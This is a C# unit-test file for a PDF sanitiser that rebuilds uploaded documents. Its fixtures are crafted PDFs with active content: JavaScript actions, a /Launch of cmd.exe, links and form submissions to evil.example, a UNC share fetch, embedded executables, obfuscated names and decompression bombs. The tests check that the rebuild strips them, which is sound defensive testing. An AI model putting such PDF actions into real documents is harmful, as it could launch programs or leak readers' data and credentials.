using System.Text;
using ClsPortal.Workshop;
using ClsPortal.Workshop.Pdf;
using SkiaSharp;

namespace ClsPortal.Infrastructure.Tests.Families;

public sealed class PdfRebuildTests
{
    private const string Script = "<< /S /JavaScript /JS (app.alert(1)) >>";

    public static TheoryData<string, byte[]> Active()
    {
        static byte[] Annotated(string annotation, params string[] objects) => FileSamples.Pdf(page: "/Annots [6 0 R] ", more: annotation, objects: objects);
        var plain = FileSamples.Pdf();
        return new TheoryData<string, byte[]>
        {
            { "a script on its own", FileSamples.Pdf(more: Script) },
            { "a script on opening", FileSamples.Pdf(catalogue: $"/OpenAction {Script} ") },
            { "a script spelt otherwise", FileSamples.Pdf(catalogue: "/Open#41ction << /S /J#61va#53cript /J#53 (x) >> ") },
            { "a program on opening", FileSamples.Pdf(catalogue: "/OpenAction << /S /Launch /F (cmd.exe) >> ") },
            { "an address on opening", FileSamples.Pdf(catalogue: "/OpenAction << /S /URI /URI (https://evil.example) >> ") },
            {
                "a share of the house's network on opening",
                FileSamples.Pdf(catalogue: @"/OpenAction << /S /GoToR /F (\\\\evil\\share\\a.pdf) /D [0 /Fit] >> ")
            },
            { "scripts by name", FileSamples.Pdf(catalogue: $"/Names << /JavaScript << /Names [(a) {Script}] >> >> ") },
            {
                "an attachment",
                FileSamples.Pdf(
                    catalogue: "/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >> ",
                    more: FileSamples.Stream("/Type /EmbeddedFile", "MZ")
                )
            },
            { "actions of catalogue and page", FileSamples.Pdf(catalogue: $"/AA << /WC {Script} >> ", page: $"/AA << /O {Script} >> ") },
            {
                "a base address, threads, metadata",
                FileSamples.Pdf(
                    catalogue: "/URI << /Base (http://evil.example) >> /Threads [] /Metadata 6 0 R /PieceInfo << /X << >> >> ",
                    more: FileSamples.Stream("/Type /Metadata", "<x/>")
                )
            },
            { "a link", Annotated("<< /Type /Annot /Subtype /Link /Rect [0 0 90 90] /A << /S /URI /URI (https://evil.example) >> >>") },
            { "a field with a script", Annotated($"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 90 90] /A {Script} /AA << /K {Script} >> >>") },
            {
                "a button that sends the form",
                Annotated("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /Rect [0 0 90 90] /A << /S /SubmitForm /F (http://evil.example) >> >>")
            },
            {
                "a button that fetches data",
                Annotated("<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /Rect [0 0 90 90] /A << /S /ImportData /F (a.fdf) >> >>")
            },
            {
                "an attachment on the page",
                Annotated(
                    "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 90 90] /FS << /Type /Filespec /F (a) /EF << /F 7 0 R >> >> >>",
                    FileSamples.Stream("/Type /EmbeddedFile", "MZ")
                )
            },
            { "a film", Annotated("<< /Type /Annot /Subtype /Screen /Rect [0 0 90 90] /A << /S /Rendition /R << /S /MR >> /JS (x) >> >>") },
            { "rich media", Annotated("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 90 90] /RichMediaContent << /Assets << >> >> >>") },
            {
                "a form of XML with plain fields beside it",
                FileSamples.Pdf(
                    catalogue: "/AcroForm << /Fields [7 0 R] /XFA 6 0 R >> ",
                    more: FileSamples.Stream("", "<xdp:xdp/>"),
                    objects: ["<< /FT /Tx /T (a) >>"]
                )
            },
            { "a script that is compressed", FileSamples.PdfWithObjectStream(Script) },
            { "a script whose object stream is announced otherwise", FileSamples.PdfWithObjectStream(Script, announced: false) },
            {
                "a script packed twice, behind a decoy",
                [
                    .. Encoding.ASCII.GetBytes("%PDF-1.5\n% 1 0 obj << /Type /ObjStm >> stream\n"),
                    .. FileSamples.PdfWithObjectStream(Script, "[/ASCIIHexDecode /FlateDecode]")[9..],
                ]
            },
            {
                "a script that an update adds",
                [
                    .. plain,
                    .. Encoding.ASCII.GetBytes(
                        $"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction {Script} >>\nendobj\nxref\n1 1\n{plain.Length:0000000000} 00000 n "
                            + "\ntrailer\n<< /Size 6 /Root 1 0 R /Prev "
                            + $"{Encoding.Latin1.GetString(plain).LastIndexOf("xref\n0", StringComparison.Ordinal)} "
                            + $">>\nstartxref\n{plain.Length + 101}\n%%EOF\n"
                    ),
                ]
            },
            { "enciphered texts", Samples.Read("script-enciphered.pdf") },
            {
                "forms and pictures that refer elsewhere",
                FileSamples.Pdf(
                    resources: "/XObject << /X 6 0 R /Y 7 0 R /Z 8 0 R >> ",
                    objects:
                    [
                        FileSamples.Stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >> /OPI << >> /PieceInfo << >>", "q Q"),
                        FileSamples.Stream("/Type /XObject /Subtype /PS", "showpage"),
                        FileSamples.Stream(
                            "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (\\\\\\\\evil\\\\a) "
                                + "/Alternates [<< /Image 8 0 R >>]",
                            "x"
                        ),
                    ]
                )
            },
        };
    }

    [Theory, MemberData(nameof(Active))]
    public void What_acts_is_left_out_and_the_page_is_kept(string what, byte[] pdf)
    {
        var kept = PdfRebuild.Run(pdf);

        RebuiltPdf.NamesIn(kept).Where(RebuiltPdf.Active.Contains).Should().BeEmpty($"the file had {what}");
        RebuiltPdf.TextOf(kept).Should().Contain("Attestation d'assurance");
        Encoding.Latin1.GetString(kept).Should().StartWith("%PDF-1.7").And.EndWith("%%EOF\n").And.NotContainAny("evil", "alert", "cmd.exe");
    }

    public static TheoryData<string, byte[]> Awkward()
    {
        var pdf = FileSamples.Pdf();
        var text = Encoding.Latin1.GetString(pdf);
        byte[] With(string old, string other) => Encoding.Latin1.GetBytes(text.Replace(old, other, StringComparison.Ordinal));
        var start = text[(text.LastIndexOf("startxref\n", StringComparison.Ordinal) + 10)..].Split('\n')[0];
        return new TheoryData<string, byte[]>
        {
            { "a mark of byte order before", [0xEF, 0xBB, 0xBF, .. pdf] },
            { "a mail's head before", [.. "Content-Type: application/pdf\r\nContent-Disposition: form-data\r\n\r\n"u8, .. pdf] },
            { "1,000 bytes before", [.. new byte[1000], .. pdf] },
            { "a Ctrl-Z behind", [.. pdf, 0x1A] },
            { "much behind", [.. pdf, .. Encoding.ASCII.GetBytes("\r\n--boundary--\r\n"), .. new byte[3000]] },
            { "an archive behind", [.. pdf, .. "PK\x05\x06"u8, .. new byte[18]] },
            { "a program's first bytes before", [.. "MZ"u8, .. pdf] },
            {
                "a stale place of the cross-reference",
                With($"startxref\n{start}", $"startxref\n{int.Parse(start, System.Globalization.CultureInfo.InvariantCulture) + 7}")
            },
            { "no place of the cross-reference", With($"startxref\n{start}", "startxref\n0") },
            { "stale places in the cross-reference", With(" 00000 n \n", "9 00000 n") },
            { "no end", pdf[..^40] },
            { "no list of its objects", pdf[..text.LastIndexOf("xref\n0", StringComparison.Ordinal)] },
            {
                "its last object cut off",
                FileSamples.Pdf(more: "<< /Producer (cut) >>") is var cut ? cut[..Encoding.Latin1.GetString(cut).IndexOf("(cut", StringComparison.Ordinal)] : []
            },
            { "another line end", With("\n", "\r") },
            { "words that are names in its text", FileSamples.Pdf("Attestation d'assurance /JavaScript /JS /Launch /3D <svg> <script> %PDF- PK") },
            { "a title that names one", FileSamples.Pdf(more: "<< /Title (Salle /3D et /JavaScript) >>") },
        };
    }

    [Theory, MemberData(nameof(Awkward))]
    public void What_other_programs_left_behind_is_mended(string what, byte[] pdf) =>
        RebuiltPdf.TextOf(PdfRebuild.Run(pdf)).Should().Contain("Attestation d'assurance", $"the file had {what}");

    [Fact]
    public void Random_bytes_of_a_picture_may_spell_any_word()
    {
        var random = new Random(13);
        var head = FileSamples.Picture(SKEncodedImageFormat.Jpeg);
        foreach (
            var word in new[]
            {
                "<svg",
                "/3D",
                "/JS",
                "/JavaScript",
                "/ObjStm",
                "stream",
                "endobj 9 0 obj",
                "/Encrypt ",
                "%PDF-1.4",
                "PK\x05\x06",
                "<script",
            }.SelectMany(word => Enumerable.Repeat(word, 20))
        )
        {
            var noise = new byte[random.Next(200, 3000)];
            random.NextBytes(noise);
            noise = [.. noise.Where(value => value != 0xFF)]; // as in compressed pixels, where each is followed by a zero
            byte[] jpeg = [.. head[..^2], .. noise, .. Encoding.Latin1.GetBytes(word), .. noise, 0xFF, 0xD9];

            RebuiltPdf.PictureIn(PdfRebuild.Run(FileSamples.Scan(jpeg))).Should().Equal(jpeg, $"it spells {word}");
        }
    }

    [Fact]
    public void A_photo_in_a_PDF_loses_the_place_where_it_was_taken()
    {
        var photo = FileSamples.Picture(SKEncodedImageFormat.Jpeg);
        byte[] placed = [.. photo[..2], 0xFF, 0xE1, 0, 14, .. "Exif\0\0GPSxyz"u8, .. photo[2..]];

        var kept = RebuiltPdf.PictureIn(PdfRebuild.Run(FileSamples.Scan(placed)));

        kept.Should().Equal(photo);
    }

    public static TheoryData<string, string, string[], string> Seen()
    {
        const string field = "/Type /Annot /Subtype /Widget /Rect [100 100 300 120]";
        var drawn = FileSamples.Stream(
            "/Type /XObject /Subtype /Form /BBox [0 0 200 20] /Resources << /Font << /F1 5 0 R >> >>",
            "BT /F1 12 Tf 2 5 Td (Camille) Tj ET"
        );
        var bare = FileSamples.Stream("/Type /XObject /Subtype /Form /BBox [0 0 200 20]", "BT /Helv 12 Tf 2 5 Td (Camille) Tj ET");
        return new TheoryData<string, string, string[], string>
        {
            { "typed, drawn by the program", $"<< {field} /FT /Tx /T (a) /V (Camille) /AP << /N 7 0 R >> >>", [drawn], "" },
            { "typed, left to the reader", $"<< {field} /FT /Tx /T (a) /V (Camille) /DA (/Helv 0 Tf 0 g) >>", [], "" },
            {
                "typed, with an older drawing",
                $"<< {field} /FT /Tx /T (a) /V (Camille) /AP << /N 7 0 R >> >>",
                [FileSamples.Stream("/Type /XObject /Subtype /Form /BBox [0 0 200 20]", "")],
                "/NeedAppearances true"
            },
            { "typed, the value held by a field above", $"<< {field} /Parent 7 0 R >>", ["<< /FT /Tx /T (a) /V <FEFF00430061006D0069006C006C0065> >>"], "" },
            { "drawn with the form's fonts", $"<< {field} /FT /Tx /T (a) /V (x) /AP << /N 7 0 R >> >>", [bare], "/DR << /Font << /Helv 5 0 R >> >>" },
            { "chosen", $"<< {field} /FT /Ch /T (a) /V (Camille) >>", [], "" },
            {
                "ticked",
                $"<< {field} /FT /Btn /T (a) /AS /Yes /AP << /N << /Yes 7 0 R /Off 8 0 R >> >> >>",
                [drawn, FileSamples.Stream("/BBox [0 0 9 9]", "")],
                ""
            },
            {
                "ticked, as LibreOffice writes it",
                $"<< {field} /FT /Btn /T (a) /AS /Yes /V /Yes /AP << /N << /on 7 0 R /Off 8 0 R >> >> >>",
                [drawn, FileSamples.Stream("/BBox [0 0 9 9]", "")],
                ""
            },
            {
                "drawn with fonts of its own and of the form",
                $"<< {field} /FT /Tx /T (a) /V (x) /AP << /N 7 0 R >> >>",
                [bare.Replace("/BBox [0 0 200 20]", "/BBox [0 0 200 20] /Resources << /Font << /Other 5 0 R >> >>", StringComparison.Ordinal)],
                "/DR << /Font << /Helv 5 0 R >> >>"
            },
            { "written on the page", "<< /Type /Annot /Subtype /FreeText /Rect [100 100 300 120] /Contents (x) /AP << /N 7 0 R >> >>", [drawn], "" },
            { "stamped", "<< /Type /Annot /Subtype /Stamp /Rect [100 100 300 120] /AP << /N 7 0 R >> >>", [drawn], "" },
        };
    }

    [Theory, MemberData(nameof(Seen))]
    public void What_a_parent_wrote_into_a_form_stays_visible(string how, string annotation, string[] objects, string form)
    {
        var kept = PdfRebuild.Run(
            FileSamples.Pdf(catalogue: $"/AcroForm << /Fields [6 0 R] {form} >> ", page: "/Annots [6 0 R] ", more: annotation, objects: objects)
        );

        RebuiltPdf.TextOf(kept).Should().Contain("Camille", $"it was {how}").And.Contain("Attestation d'assurance");
        RebuiltPdf.NamesIn(kept).Where(RebuiltPdf.Active.Contains).Should().BeEmpty();
    }

    [Theory]
    [InlineData("/F 2", "(Camille)")]
    [InlineData("/Ff 8192", "(Camille)")]
    [InlineData("/F 32", "(Camille)")]
    public void What_a_form_hides_stays_hidden(string flags, string value)
    {
        var kept = PdfRebuild.Run(
            FileSamples.Pdf(page: "/Annots [6 0 R] ", more: $"<< /Type /Annot /Subtype /Widget /Rect [100 100 300 120] /FT /Tx {flags} /V {value} >>")
        );

        RebuiltPdf.TextOf(kept).Should().NotContain("Camille");
    }

    public static TheoryData<string, byte[], Verdict> NotKept()
    {
        var zeros = FileSamples.Packed(new byte[100 * 1024 * 1024]);
        var nested = string.Concat(Enumerable.Repeat("[", 100_000));
        return new TheoryData<string, byte[], Verdict>
        {
            { "a password", Samples.Read("password.pdf"), Verdict.Locked },
            {
                "a form that only one program draws",
                FileSamples.Pdf(catalogue: "/NeedsRendering true /AcroForm << /Fields [] /XFA 6 0 R >> ", more: FileSamples.Stream("", "<x/>")),
                Verdict.DynamicForm
            },
            { "other files in an envelope", FileSamples.Pdf(catalogue: "/Collection << /Type /Collection >> "), Verdict.Portfolio },
            { "only a first line", Encoding.ASCII.GetBytes("%PDF-1.4\n"), Verdict.Damaged },
            { "noise", [.. "%PDF-1.7\n"u8, .. Enumerable.Range(0, 5000).Select(number => (byte)(number * 7919 % 251))], Verdict.Damaged },
            { "no page", FileSamples.Pdf(pages: ""), Verdict.Damaged },
            { "a page whose content is lost", FileSamples.Pdf(contents: "[4 0 R 99 0 R]"), Verdict.Damaged },
            { "content that swells", FileSamples.Pdf(contents: "6 0 R", more: FileSamples.Stream("/Filter /FlateDecode", zeros)), Verdict.TooLarge },
            {
                "content that swells twice",
                FileSamples.Pdf(contents: "6 0 R", more: FileSamples.Stream("/Filter [/FlateDecode /FlateDecode]", FileSamples.Packed(zeros))),
                Verdict.TooLarge
            },
            {
                "objects that swell",
                FileSamples.Pdf(contents: "7 0 R", more: FileSamples.Stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros)),
                Verdict.Damaged
            },
            { "lists in lists", FileSamples.Pdf(catalogue: "/Lang 6 0 R ", more: nested), Verdict.Kept },
            { "pages below themselves", FileSamples.Pdf(pages: "2 0 R 3 0 R 2 0 R"), Verdict.Kept },
            {
                "a length that refers to itself",
                FileSamples.Pdf(resources: "/XObject << /X 6 0 R >> ", more: "<< /Subtype /Form /BBox [0 0 9 9] /Length 6 0 R >>\nstream\nx\nendstream"),
                Verdict.Kept
            },
            { "references in a ring", FileSamples.Pdf(resources: "/ColorSpace 6 0 R ", objects: ["7 0 R", "6 0 R"]), Verdict.Kept },
            {
                "forms in a ring",
                FileSamples.Pdf(
                    resources: "/XObject << /X 6 0 R >> ",
                    more: FileSamples.Stream("/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>", "/X Do")
                ),
                Verdict.Kept
            },
        };
    }

    [Theory, MemberData(nameof(NotKept))]
    public void What_gives_no_document_is_told_by_its_reason_and_what_only_looks_hostile_is_kept(string what, byte[] pdf, Verdict verdict)
    {
        var found = Verdict.Kept;
        try
        {
            RebuiltPdf.TextOf(PdfRebuild.Run(pdf)).Should().Contain("Attestation");
        }
        catch (VerdictException exception)
        {
            found = exception.Verdict;
        }

        found.Should().Be(verdict, $"the file had {what}");
    }
}
